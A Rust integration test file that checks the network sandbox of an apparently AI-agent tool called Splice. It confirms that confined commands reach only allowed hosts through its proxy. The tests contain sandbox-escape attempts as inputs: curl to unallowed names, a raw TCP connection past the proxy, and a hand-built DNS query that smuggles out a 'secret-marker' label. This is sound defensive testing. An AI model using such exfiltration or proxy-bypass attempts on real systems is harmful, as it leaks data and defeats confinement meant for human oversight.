//! Issue 28, network: a confined command (`auto` mode) reaches no host but those the person
//! allowed, and only through Splice's proxy. Against the real binary, with servers on this
//! machine's loopback only (no test contacts another address): a name nobody allowed, raw TCP
//! past the proxy, and a DNS-shaped datagram are refused, and nothing reaches the servers;
//! an allowed name does, as the control that shows the refusals are the sandbox's.

use crate::support;

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use support::attack::{run_commands, sandbox_outside_tmp};
use support::sockets::results;
use support::{Outcome, Sandbox};

/// What the server answers, so a command's output shows it got through.
pub(crate) const REACHED: &str = "reached-the-test-server";

/// An HTTP server on 127.0.0.1 that records each request head it gets.
pub(crate) struct Server {
    pub(crate) port: u16,
    heads: Arc<Mutex<Vec<String>>>,
}

impl Server {
    pub(crate) fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind the test server");
        let port = listener.local_addr().expect("read the port").port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let seen = heads.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let _ = stream.set_read_timeout(Some(Duration::from_secs(5)));
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                    head.push(byte[0]);
                }
                seen.lock()
                    .expect("lock")
                    .push(String::from_utf8_lossy(&head).into_owned());
                let reply = format!(
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{REACHED}",
                    REACHED.len()
                );
                let _ = stream.write_all(reply.as_bytes());
            }
        });
        Server { port, heads }
    }

    pub(crate) fn heads(&self) -> Vec<String> {
        self.heads.lock().expect("lock").clone()
    }
}

fn write_config(sandbox: &Sandbox, config: &Value) {
    std::fs::write(sandbox.dir.path().join("config.json"), config.to_string())
        .expect("write config.json");
}

fn auto(sandbox: &Sandbox, commands: &[String]) -> Outcome {
    run_commands(sandbox, commands, &["--permission-mode", "auto"])
}

fn blocked_warnings(out: &Outcome) -> Vec<String> {
    out.of_type("warning")
        .iter()
        .filter(|w| w["code"] == "network_blocked")
        .map(|w| w["message"].as_str().unwrap_or_default().to_string())
        .collect()
}

/// `curl` to the server by a name nobody allowed: the proxy answers 403, nothing reaches the
/// server, and the run says which setting would allow it, once for the host.
#[test]
fn a_confined_command_cannot_reach_a_host_nobody_allowed() {
    let sandbox = sandbox_outside_tmp();
    let server = Server::start();
    let url = format!("http://localhost:{}/secret", server.port);
    let out = auto(
        &sandbox,
        &[
            format!("curl -sS -w ' status=%{{http_code}}' {url}"),
            // HTTPS clients tunnel with CONNECT: refused the same way.
            format!("curl -sS -p {url}"),
        ],
    );
    assert_eq!(
        server.heads(),
        Vec::<String>::new(),
        "a request got through"
    );
    let results = results(&out);
    assert_eq!(results.len(), 2);
    assert!(results[0].1.contains("status=403"), "{}", results[0].1);
    assert!(
        results[0].1.contains("sandbox.network.allowedDomains"),
        "{}",
        results[0].1
    );
    assert!(!results[0].1.contains(REACHED), "{}", results[0].1);
    assert_eq!(results[1].0, "error", "{}", results[1].1);
    assert!(results[1].1.contains("403"), "{}", results[1].1);
    let warnings = blocked_warnings(&out);
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(warnings[0].contains("localhost"), "{}", warnings[0]);
    assert!(
        warnings[0].contains("sandbox.network.allowedDomains"),
        "{}",
        warnings[0]
    );
}

/// The control: a host the person allowed (here the loopback's name, with local addresses
/// allowed) is reached through the proxy, both as a plain request and through a tunnel; a
/// `WebFetch(domain:…)` rule allows it as well.
#[test]
fn an_allowed_host_is_reached_through_the_proxy() {
    for config in [
        json!({"sandbox": {"network": {"allowedDomains": ["localhost"], "allowLocalAddresses": true}}}),
        json!({"allow": ["WebFetch(domain:localhost)"], "sandbox": {"network": {"allowLocalAddresses": true}}}),
    ] {
        let sandbox = sandbox_outside_tmp();
        write_config(&sandbox, &config);
        let server = Server::start();
        let url = format!("http://localhost:{}/ok", server.port);
        let out = auto(
            &sandbox,
            &[format!("curl -sS {url}"), format!("curl -sS -p {url}")],
        );
        let results = results(&out);
        for (status, output) in &results {
            assert_eq!(status, "ok", "{config}: {output}");
            assert!(output.contains(REACHED), "{config}: {output}");
        }
        assert_eq!(server.heads().len(), 2, "{config}");
        assert!(server.heads()[0].starts_with("GET /ok HTTP/1.1\r\n"));
        assert_eq!(blocked_warnings(&out), Vec::<String>::new());
    }
}

/// An allowed name that resolves to this machine is refused unless local addresses are
/// allowed: a name in the list cannot be pointed at your services.
#[test]
fn an_allowed_name_that_points_at_this_machine_needs_local_addresses_allowed() {
    let sandbox = sandbox_outside_tmp();
    write_config(
        &sandbox,
        &json!({"sandbox": {"network": {"allowedDomains": ["localhost"]}}}),
    );
    let server = Server::start();
    let out = auto(
        &sandbox,
        &[format!(
            "curl -sS -w ' status=%{{http_code}}' http://localhost:{}/",
            server.port
        )],
    );
    assert_eq!(server.heads(), Vec::<String>::new());
    let (_, output) = &results(&out)[0];
    assert!(output.contains("status=403"), "{output}");
    let warnings = blocked_warnings(&out);
    assert_eq!(warnings.len(), 1, "{warnings:?}");
    assert!(
        warnings[0].contains("sandbox.network.allowLocalAddresses"),
        "{}",
        warnings[0]
    );
}

/// A raw connection past the proxy, to the server's own address and port: the host's loopback
/// is not the command's, so it is refused at once (no hang), even with the name allowed.
#[test]
fn raw_tcp_past_the_proxy_is_refused_at_once() {
    let sandbox = sandbox_outside_tmp();
    write_config(
        &sandbox,
        &json!({"sandbox": {"network": {"allowedDomains": ["localhost", "127.0.0.1"], "allowLocalAddresses": true}}}),
    );
    let server = Server::start();
    let script = format!(
        "import socket, time\n\
         t = time.time()\n\
         try:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=20)\n    \
         s.sendall(b'GET /raw HTTP/1.1\\r\\n\\r\\n'); print('connected', s.recv(100))\n\
         except OSError as e:\n    print('refused', e.errno, round(time.time() - t))\n",
        port = server.port
    );
    let out = auto(&sandbox, &[format!("python3 -c \"{script}\"")]);
    assert_eq!(
        server.heads(),
        Vec::<String>::new(),
        "the raw connection got through"
    );
    let (_, output) = &results(&out)[0];
    assert!(output.contains("refused 111 0"), "{output}");
}

/// DNS exfiltration: a DNS query carrying a secret, sent to a resolver on the host's loopback
/// (the test's own UDP server), never arrives.
#[test]
fn a_dns_query_to_a_resolver_outside_never_arrives() {
    let sandbox = sandbox_outside_tmp();
    let resolver = UdpSocket::bind("127.0.0.1:0").expect("bind the resolver");
    let port = resolver.local_addr().expect("read the port").port();
    resolver
        .set_read_timeout(Some(Duration::from_millis(500)))
        .expect("set a timeout");
    // A query for `secret-marker.exfil.test`, type A.
    let script = format!(
        "import socket\n\
         q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b''.join(bytes([len(p)]) + p for p in [b'secret-marker', b'exfil', b'test']) + b'\\x00\\x00\\x01\\x00\\x01'\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         try:\n    s.sendto(q, ('127.0.0.1', {port})); print('sent')\n\
         except OSError as e:\n    print('refused', e.errno)\n"
    );
    let out = auto(&sandbox, &[format!("python3 -c \"{script}\"")]);
    let (_, output) = &results(&out)[0];
    assert!(
        output.contains("sent") || output.contains("refused"),
        "{output}"
    );
    let mut buffer = [0u8; 512];
    let got = resolver.recv(&mut buffer).ok();
    assert_eq!(got, None, "the query reached the resolver");
}

/// Where no network namespace can be made, the command is not run, and the reason says so.
#[test]
fn without_a_network_namespace_the_command_is_not_run() {
    let sandbox = sandbox_outside_tmp();
    let marker = sandbox.root.join("ran");
    let provider = support::fake_provider::FakeProvider::start(vec![
        support::fake_provider::openai::tool_call(
            "call_1",
            "run_command",
            &[&json!({"command": format!("touch {}", marker.display())}).to_string()],
        ),
        support::fake_provider::openai::answer(&["done"]),
    ]);
    let mut command = sandbox.command(&provider.url);
    command.env("SPLICE_TEST_NO_NETNS", "1");
    support::stream_json(&mut command)
        .args(["--permission-mode", "auto"])
        .arg("run it");
    let out = support::run(command, None);
    out.assert_well_formed();
    assert!(!marker.exists(), "the command ran without its namespace");
    let (_, output) = &results(&out)[0];
    assert!(output.contains("network namespace"), "{output}");
}
